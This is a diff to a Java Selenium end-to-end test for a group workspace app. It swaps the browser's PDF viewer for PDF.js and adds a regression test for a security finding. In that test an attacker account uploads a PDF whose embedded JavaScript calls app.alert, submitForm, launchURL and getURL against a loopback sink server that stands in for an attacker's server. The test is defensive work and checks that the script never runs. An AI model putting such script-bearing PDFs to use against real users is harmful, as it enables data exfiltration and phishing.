@@ -1,6 +1,7 @@
 package de.zusammenwachsen.workspace.e2e;
 
 import com.icegreen.greenmail.junit5.GreenMailExtension;
+import com.sun.net.httpserver.HttpServer;
 import jakarta.json.Json;
 import jakarta.json.JsonObject;
 import org.jboss.arquillian.container.test.api.Deployment;
@@ -13,12 +14,16 @@ import org.junit.jupiter.api.extension.RegisterExtension;
 import org.openqa.selenium.By;
 import org.openqa.selenium.Cookie;
 import org.openqa.selenium.Dimension;
+import org.openqa.selenium.Keys;
+import org.openqa.selenium.NoAlertPresentException;
 import org.openqa.selenium.TimeoutException;
 import org.openqa.selenium.WebElement;
 import org.openqa.selenium.support.ui.ExpectedConditions;
 import org.openqa.selenium.support.ui.WebDriverWait;
 
 import java.io.IOException;
+import java.net.InetAddress;
+import java.net.InetSocketAddress;
 import java.net.URI;
 import java.net.http.HttpClient;
 import java.net.http.HttpRequest;
@@ -28,6 +33,7 @@ import java.nio.file.Files;
 import java.nio.file.Path;
 import java.time.Duration;
 import java.util.List;
+import java.util.concurrent.CopyOnWriteArrayList;
 
 import static de.zusammenwachsen.workspace.e2e.Flows.BASE;
 import static de.zusammenwachsen.workspace.e2e.Flows.assertAccessible;
@@ -37,6 +43,7 @@ import static de.zusammenwachsen.workspace.e2e.Flows.waitFor;
 import static org.junit.jupiter.api.Assertions.assertArrayEquals;
 import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertNotNull;
+import static org.junit.jupiter.api.Assertions.assertThrows;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
 /**
@@ -156,19 +163,20 @@ class DocumentsIT {
                 assertEquals("Protokolle", mem.driver.findElement(By.id("libraryHeading")).getText());
                 assertAccessible(mem);
 
-                // The PDF previews in a frame served from our own origin.
+                // The PDF previews in the page, drawn by PDF.js from the file, which itself only ever downloads.
                 mem.driver.get(BASE + "/groups/documents.xhtml?slug=" + slug);
                 mem.driver.findElement(By.linkText("bafoeg.pdf")).click();
-                waitFor(mem, By.id("previewFrame"));
+                waitFor(mem, By.id("pdfPreview"));
                 String documentUrl = mem.driver.getCurrentUrl();
-                String frameSource = mem.driver.findElement(By.id("previewFrame")).getAttribute("src");
-                assertTrue(frameSource.startsWith(BASE + "/files/"), frameSource);
-                HttpResponse<byte[]> inline = get(frameSource, mem, null);
-                assertEquals(200, inline.statusCode());
-                assertEquals("application/pdf", inline.headers().firstValue("Content-Type").orElse(""));
-                assertTrue(inline.headers().firstValue("Content-Disposition").orElse("").startsWith("inline"));
-                assertTrue(inline.headers().firstValue("Content-Security-Policy").orElse("").contains("frame-ancestors 'self'"));
-                assertEquals("SAMEORIGIN", inline.headers().firstValue("X-Frame-Options").orElse(""));
+                pdfPageDrawn(mem, 1);
+                String fileUrl = BASE + mem.driver.findElement(By.id("pdfPreview")).getAttribute("data-src");
+                assertTrue(fileUrl.startsWith(BASE + "/files/"), fileUrl);
+                HttpResponse<byte[]> raw = get(fileUrl, mem, null);
+                assertEquals(200, raw.statusCode());
+                assertEquals("application/pdf", raw.headers().firstValue("Content-Type").orElse(""));
+                assertTrue(raw.headers().firstValue("Content-Disposition").orElse("").startsWith("attachment"));
+                assertTrue(raw.headers().firstValue("Content-Security-Policy").orElse("").startsWith("sandbox"));
+                assertEquals("DENY", raw.headers().firstValue("X-Frame-Options").orElse(""));
                 assertEquals("v1", mem.driver.findElement(By.id("currentVersion")).getText());
                 mem.screenshot("documents-pdf-preview");
                 assertAccessible(mem);
@@ -280,7 +288,7 @@ class DocumentsIT {
 
                 current = mem;
                 mem.driver.get(documentUrl);
-                waitFor(mem, By.id("previewFrame"));
+                pdfPageDrawn(mem, 1);
                 assertEquals("v3", mem.driver.findElement(By.id("currentVersion")).getText());
                 assertEquals(200, get(downloadUrl, mem, null).statusCode(), "restored, the download works again");
 
@@ -299,6 +307,134 @@ class DocumentsIT {
                 throw e;
             }
         }
+    }
+
+    /**
+     * Finding 7 of the security probe, as an attacker does it: a member uploads through the REST API a PDF whose
+     * OpenAction runs JavaScript (a dialog, a form sent and pages opened to a server of the attacker's), and a
+     * moderator opens the document. Chromium's own viewer ran such a script for every viewer of the preview, also
+     * under a CSP sandbox (its app.alert holds a dialog over the page, so the page never finishes loading). Now PDF.js
+     * draws the pages in the page and runs no script; the file itself only ever goes out as an attachment.
+     */
+    @Test
+    void aScriptInAnUploadedPdfNeverRunsInThePreview() throws Exception {
+        Fixtures.Account moderator = Fixtures.createAccount(MAIL, "Moritz Moderator");
+        Fixtures.Account attacker = Fixtures.createAccount(MAIL, "Anton Angreifer");
+        String slug = Fixtures.createGroup("PUBLIC", "OPEN", moderator.email()).getString("slug");
+        assertEquals(201, attacker.api().post("/groups/" + slug + "/members").status());
+
+        // Whatever the script manages to send lands here.
+        List<String> calls = new CopyOnWriteArrayList<>();
+        HttpServer sink = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
+        sink.createContext("/", exchange -> {
+            calls.add(exchange.getRequestMethod() + " " + exchange.getRequestURI());
+            exchange.sendResponseHeaders(204, -1);
+            exchange.close();
+        });
+        sink.start();
+        try {
+            String to = "http://127.0.0.1:" + sink.getAddress().getPort();
+            byte[] pdf = AdversarialFiles.pdfWithScript("app.alert('Skript aus dem PDF'); this.submitForm('" + to + "/submit'); "
+                            + "app.launchURL('" + to + "/launch', true); this.getURL('" + to + "/geturl');",
+                    "Einladung zum Sommerfest am Geiseltalsee", "Anmeldung bis Freitag im Bürgerhaus");
+            ApiClient.Answer uploaded = attacker.api().postMultipart("/groups/" + slug + "/documents",
+                    new ApiClient.Multipart().file("file", "Einladung.pdf", pdf));
+            assertEquals(201, uploaded.status(), uploaded.body());
+            long documentId = uploaded.array().getJsonObject(0).getJsonNumber("documentId").longValue();
+
+            // The REST API never hands the PDF to a browser's viewer either.
+            ApiClient.Binary viaApi = attacker.api().download("/documents/" + documentId + "/versions/1/content");
+            assertEquals(200, viaApi.status(), viaApi.toString());
+            assertEquals("application/pdf", viaApi.header("Content-Type"));
+            assertTrue(viaApi.header("Content-Disposition").startsWith("attachment"), viaApi.header("Content-Disposition"));
+            assertTrue(viaApi.header("Content-Security-Policy").startsWith("sandbox"), viaApi.header("Content-Security-Policy"));
+            assertArrayEquals(pdf, viaApi.bytes());
+
+            try (Browser victim = new Browser()) {
+                try {
+                    Flows.logIn(victim, moderator.email(), Fixtures.PASSWORD);
+                    try {
+                        victim.driver.get(BASE + "/groups/document.xhtml?id=" + documentId);
+                    } catch (TimeoutException e) {
+                        throw new AssertionError("the document page never finished loading: a dialog of the PDF's script "
+                                + "holds it, so the browser's own viewer ran the script", e);
+                    }
+                    pdfPageDrawn(victim, 1);
+                    assertTrue(pdfText(victim).contains("Einladung zum Sommerfest"), pdfText(victim));
+                    assertEquals("Seite 1 von 2", victim.driver.findElement(By.id("pdfStatus")).getDomProperty("textContent"));
+                    Object framed = victim.driver.executeScript("return Array.from(document.querySelectorAll('iframe, embed, object'))"
+                            + ".map(function (e) { return e.src || e.data || ''; }).filter(function (s) { return s.indexOf('/files/') >= 0; }).length;");
+                    assertEquals(0L, ((Number) framed).longValue(), "the PDF is never framed for the browser's own viewer");
+                    assertThrows(NoAlertPresentException.class, () -> victim.driver.switchTo().alert(), "the PDF's app.alert ran");
+                    assertAccessible(victim);
+                    victim.screenshot("documents-pdf-with-script");
+
+                    // Turning pages with the keyboard: Enter on "Nächste Seite", then a page number typed in.
+                    assertEquals("true", victim.driver.findElement(By.id("pdfPrevious")).getAttribute("aria-disabled"));
+                    victim.driver.findElement(By.id("pdfNext")).sendKeys(Keys.ENTER);
+                    pdfPageDrawn(victim, 2);
+                    assertTrue(pdfText(victim).contains("Anmeldung bis Freitag"), pdfText(victim));
+                    assertEquals("true", victim.driver.findElement(By.id("pdfNext")).getAttribute("aria-disabled"));
+                    WebElement number = victim.driver.findElement(By.id("pdfPageNumber"));
+                    number.sendKeys(Keys.chord(Keys.CONTROL, "a"), "1", Keys.ENTER);
+                    pdfPageDrawn(victim, 1);
+                    assertThrows(NoAlertPresentException.class, () -> victim.driver.switchTo().alert(), "the PDF's app.alert ran");
+                    assertAccessible(victim);
+
+                    // The file's own address answers as a download, never as a document for the browser's viewer.
+                    String fileUrl = BASE + victim.driver.findElement(By.id("pdfPreview")).getAttribute("data-src");
+                    HttpResponse<byte[]> raw = get(fileUrl, victim, null);
+                    assertEquals(200, raw.statusCode());
+                    assertEquals("application/pdf", raw.headers().firstValue("Content-Type").orElse(""));
+                    String disposition = raw.headers().firstValue("Content-Disposition").orElse("");
+                    assertTrue(disposition.startsWith("attachment") && disposition.contains("Einladung.pdf"), disposition);
+                    assertTrue(raw.headers().firstValue("Content-Security-Policy").orElse("").startsWith("sandbox"));
+                    assertEquals("DENY", raw.headers().firstValue("X-Frame-Options").orElse(""));
+                    assertEquals("nosniff", raw.headers().firstValue("X-Content-Type-Options").orElse(""));
+                    assertArrayEquals(pdf, raw.body());
+
+                    // PDF.js comes from our own origin as JavaScript (nosniff refuses anything else); its worker may
+                    // compile WebAssembly and nothing more: no eval, no fetch, no import.
+                    HttpResponse<byte[]> library = get(BASE + "/pdfjs/build/pdf.mjs", null, null);
+                    assertEquals(200, library.statusCode());
+                    assertTrue(library.headers().firstValue("Content-Type").orElse("").startsWith("text/javascript"));
+                    HttpResponse<byte[]> worker = get(BASE + "/pdfjs/build/pdf.worker.mjs", null, null);
+                    assertEquals(200, worker.statusCode());
+                    assertTrue(worker.headers().firstValue("Content-Type").orElse("").startsWith("text/javascript"));
+                    assertEquals("default-src 'none'; script-src 'wasm-unsafe-eval'; frame-ancestors 'none'; base-uri 'none'; "
+                            + "form-action 'none'", worker.headers().firstValue("Content-Security-Policy").orElse(""));
+                    assertEquals(404, get(BASE + "/pdfjs/build/pdf.sandbox.mjs", null, null).statusCode(),
+                            "PDF.js's scripting bundle, which would run a PDF's JavaScript, is not shipped");
+                } catch (AssertionError | RuntimeException e) {
+                    victim.screenshot("documents-pdf-with-script-failure");
+                    throw e;
+                }
+            }
+            assertEquals(List.of(), calls, "what the PDF's script sent out");
+        } finally {
+            sink.stop(0);
+        }
+    }
+
+    /** Waits until PDF.js has drawn page {@code number} with its text layer, and checks the picture has a size. */
+    private static void pdfPageDrawn(Browser browser, int number) {
+        until(browser, "page " + number + " of the PDF drawn", () -> {
+            WebElement preview = browser.driver.findElement(By.id("pdfPreview"));
+            if ("failed".equals(preview.getAttribute("data-state"))) {
+                throw new AssertionError("the preview failed: " + browser.driver.findElement(By.id("pdfFailure")).getText());
+            }
+            return "rendered".equals(preview.getAttribute("data-state"))
+                    && String.valueOf(number).equals(preview.getAttribute("data-page"));
+        });
+        WebElement canvas = browser.driver.findElement(By.id("pdfCanvas"));
+        assertTrue(Integer.parseInt(canvas.getAttribute("width")) > 0 && Integer.parseInt(canvas.getAttribute("height")) > 0,
+                "the page is drawn on the canvas");
+        assertTrue(browser.driver.findElement(By.id("pdfPage")).isDisplayed());
+    }
+
+    /** The text layer PDF.js puts over the page (transparent, so read from the DOM, not as visible text). */
+    private static String pdfText(Browser browser) {
+        return browser.driver.findElement(By.id("pdfText")).getDomProperty("textContent");
     }
 
     private static String lastDocument(Browser browser) {
